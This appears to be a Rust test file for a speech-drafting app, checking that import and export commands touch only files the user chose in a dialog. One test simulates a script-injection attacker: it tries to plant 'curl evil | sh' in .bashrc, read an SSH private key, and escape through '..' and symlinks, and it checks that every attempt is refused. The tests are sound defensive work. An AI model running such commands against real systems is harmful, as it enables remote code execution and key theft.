//! The commands that take a path, against an in-memory database without a window: a path is
//! used only when the user chose it in a dialog.

use crate::grants::Grants;
use crate::paths;
use podium_app::{library, App, AppError, ErrorCode};

fn shell() -> (App, Grants) {
    (App::in_memory(), Grants::default())
}

/// A draft in the library, titled 年頭挨拶.
fn a_draft(app: &App) {
    let text = "# 年頭挨拶\n\n皆さん、おはようございます。\n".to_owned();
    library::import_texts(app, vec![(String::new(), text)]).unwrap();
}

/// An export is written to exactly the file chosen in the save dialog.
#[test]
fn an_export_goes_to_the_file_chosen_in_the_save_dialog() {
    let grants = Grants::default();
    let text = "令和9年 年頭挨拶\n\n本日は。\n";
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("年頭挨拶.txt");
    let chosen = paths::choose_export_path(&grants, Some(path.clone())).unwrap();
    let chosen = chosen.expect("the save dialog's path, granted");
    paths::save_export(&grants, &chosen, text).unwrap();
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
    let relative = paths::save_export(&grants, "年頭挨拶.txt", text).unwrap_err();
    assert_eq!(relative.code, ErrorCode::InvalidInput);
    assert_eq!(
        paths::choose_export_path(&grants, None),
        Ok(None),
        "cancelled"
    );
}

/// A Word document is made from the draft's text in Rust and written to exactly the file chosen
/// in the save dialog; any other path is refused and nothing written.
#[test]
fn a_word_document_goes_to_the_file_chosen_in_the_save_dialog() {
    use podium_app::wire::{PrintOptions, WordDocument};
    let grants = Grants::default();
    let body = "# 年頭挨拶\n\n{本日|ほんじつ}は。\n";
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("年頭挨拶.docx");
    let chosen = paths::choose_export_path(&grants, Some(path.clone()))
        .unwrap()
        .expect("granted");
    let script = WordDocument::ReadingScript {
        options: PrintOptions::default(),
    };
    paths::save_word_document(&grants, &chosen, body, &script).unwrap();
    assert!(std::fs::read(&path).unwrap().starts_with(b"PK\x03\x04"));
    let elsewhere = dir.path().join("other.docx");
    let refused = paths::save_word_document(
        &grants,
        elsewhere.to_str().unwrap(),
        body,
        &WordDocument::Published,
    )
    .unwrap_err();
    assert_eq!(refused.code, ErrorCode::NotPermitted);
    assert!(!elsewhere.exists());
}

#[test]
fn import_lists_bad_files_and_writes_nothing_for_them() {
    let (state, grants) = shell();
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("成人式.md");
    std::fs::write(&good, "新成人の皆さん。\r\n").unwrap();
    let binary = dir.path().join("写真.md");
    std::fs::write(&binary, [0u8, 1, 2, 3]).unwrap();
    let gone = dir.path().join("ない.md");
    std::fs::write(&gone, "消えます").unwrap();
    // Chosen in the open dialog (one removed before the import).
    let paths = paths::choose_import_files(&grants, vec![good, binary, gone.clone()]).unwrap();
    std::fs::remove_file(&gone).unwrap();
    let report = paths::import_files(&state, &grants, paths).unwrap();
    assert_eq!(report.imported.len(), 1);
    assert_eq!(report.imported[0].title, "成人式");
    let failed: Vec<_> = report.failed.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(failed.len(), 2);
    assert!(failed[0].ends_with("写真.md") && failed[1].ends_with("ない.md"));
    assert!(report.failed[0].message.starts_with("バイナリファイル"));
    let relative =
        paths::import_files(&state, &grants, vec!["relative.md".to_owned()]).unwrap_err();
    assert_eq!(relative.code, ErrorCode::InvalidInput);
    assert_eq!(library::list_drafts(&state).unwrap().len(), 1);
    assert_eq!(
        library::get_draft(&state, report.imported[0].id)
            .unwrap()
            .body,
        "新成人の皆さん。\n"
    );
}

#[test]
fn a_word_document_chosen_in_the_dialog_imports_with_its_notes() {
    assert!(crate::dialogs::IMPORT_EXTENSIONS.contains(&"docx"));
    let (state, grants) = shell();
    let review =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/data/docx/review.docx");
    let paths = paths::choose_import_files(&grants, vec![review]).unwrap();
    let report = paths::import_files(&state, &grants, paths).unwrap();
    assert_eq!(report.imported[0].title, "教育委員会の取組");
    assert_eq!(report.notes.len(), 1);
    assert_eq!(report.notes[0].notes.len(), 4, "{:?}", report.notes);
}

#[test]
fn export_all_reports_progress_and_writes_only_into_the_folder() {
    let (state, grants) = shell();
    a_draft(&state);
    a_draft(&state);
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("書き出し");
    std::fs::create_dir(&folder).unwrap();
    let folder = paths::choose_folder(&grants, Some(folder))
        .unwrap()
        .unwrap();
    let mut heard = Vec::new();
    let report =
        paths::export_all(&state, &grants, &folder, |p| heard.push((p.done, p.total))).unwrap();
    assert_eq!(heard, [(0, 2), (1, 2), (2, 2)]);
    assert_eq!(report.files.len(), 2);
    assert!(report
        .files
        .iter()
        .all(|file| file.starts_with(&report.folder)));
    assert_ne!(
        report.files[0], report.files[1],
        "same titles, distinct files"
    );
    let relative = paths::export_all(&state, &grants, "書き出し", |_| {}).unwrap_err();
    assert_eq!(relative.code, ErrorCode::InvalidInput);
}

/// What a script in the page could try (an XSS): every command that reads or writes a file
/// refuses a path the user never chose in a dialog, and a `..` or a symlink out of one that
/// was chosen, before touching anything.
#[test]
fn files_never_chosen_are_neither_read_nor_written() {
    let (state, grants) = shell();
    a_draft(&state);
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    let text = |path: &std::path::Path| path.to_str().unwrap().to_owned();
    fn refused<T>(result: Result<T, AppError>) {
        let error = result.map(|_| ()).unwrap_err();
        assert_eq!(error.code, ErrorCode::NotPermitted, "{}", error.message);
        assert!(error.message.contains("(not chosen in a dialog"));
    }

    // save_export: any text into any file.
    let target = root.join(".bashrc");
    refused(paths::save_export(
        &grants,
        &text(&target),
        "curl evil | sh",
    ));
    assert!(!target.exists());

    // import_files + get_draft: a private key read into the library.
    let secret = root.join("id_ed25519");
    std::fs::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
    refused(paths::import_files(&state, &grants, vec![text(&secret)]));
    assert_eq!(
        library::list_drafts(&state).unwrap().len(),
        1,
        "nothing imported"
    );
    assert_eq!(
        library::get_draft(&state, 2).unwrap_err().code,
        ErrorCode::NotFound
    );
    // One chosen file does not carry another along.
    let speech = root.join("挨拶.md");
    std::fs::write(&speech, "本日は。").unwrap();
    let chosen = paths::choose_import_files(&grants, vec![speech.clone()]).unwrap();
    refused(paths::import_files(
        &state,
        &grants,
        vec![chosen[0].clone(), text(&secret)],
    ));
    assert_eq!(
        library::list_drafts(&state).unwrap().len(),
        1,
        "all or nothing"
    );
    // `..` out of the chosen file's folder.
    std::fs::create_dir(root.join("sub")).unwrap();
    refused(paths::import_files(
        &state,
        &grants,
        vec![text(&root.join("sub/../id_ed25519"))],
    ));

    // export_all: files into any folder.
    let folder = root.join("autostart");
    std::fs::create_dir(&folder).unwrap();
    refused(paths::export_all(&state, &grants, &text(&folder), |_| {}));
    assert_eq!(std::fs::read_dir(&folder).unwrap().count(), 0);

    // Chosen: accepted, by any spelling that resolves to it.
    let chosen_folder = paths::choose_folder(&grants, Some(root.join("sub/../autostart")))
        .unwrap()
        .unwrap();
    assert_eq!(chosen_folder, text(&folder));
    let report = paths::export_all(
        &state,
        &grants,
        &text(&root.join("sub/../autostart")),
        |_| {},
    )
    .unwrap();
    assert_eq!(report.files.len(), 1);
    refused(paths::export_all(
        &state,
        &grants,
        &text(&root.join("autostart/..")),
        |_| {},
    ));
    let imported = paths::import_files(&state, &grants, chosen).unwrap();
    assert_eq!(imported.imported.len(), 1);
    let export = root.join("sub/挨拶.html");
    let granted = paths::choose_export_path(&grants, Some(export.clone()))
        .unwrap()
        .unwrap();
    paths::save_export(&grants, &granted, "<p>本日は。</p>").unwrap();
    assert_eq!(std::fs::read_to_string(&export).unwrap(), "<p>本日は。</p>");
    // A grant to write that file is not one to read it, nor to write the one beside it.
    refused(paths::import_files(&state, &grants, vec![granted.clone()]));
    refused(paths::save_export(
        &grants,
        &text(&root.join("sub/other.html")),
        "x",
    ));

    // Symlinks: out of a chosen folder, or put in place of a chosen file.
    #[cfg(unix)]
    {
        use std::os::unix::fs::symlink;
        symlink(&root, folder.join("up")).unwrap();
        refused(paths::export_all(
            &state,
            &grants,
            &text(&folder.join("up")),
            |_| {},
        ));
        symlink(&root, root.join("sub/up")).unwrap();
        refused(paths::save_export(
            &grants,
            &text(&root.join("sub/up/.bashrc")),
            "x",
        ));
        assert!(!target.exists());
        std::fs::remove_file(&speech).unwrap();
        symlink(&secret, &speech).unwrap();
        refused(paths::import_files(&state, &grants, vec![text(&speech)]));
        assert_eq!(
            library::list_drafts(&state).unwrap().len(),
            2,
            "the import before, only"
        );
    }
}
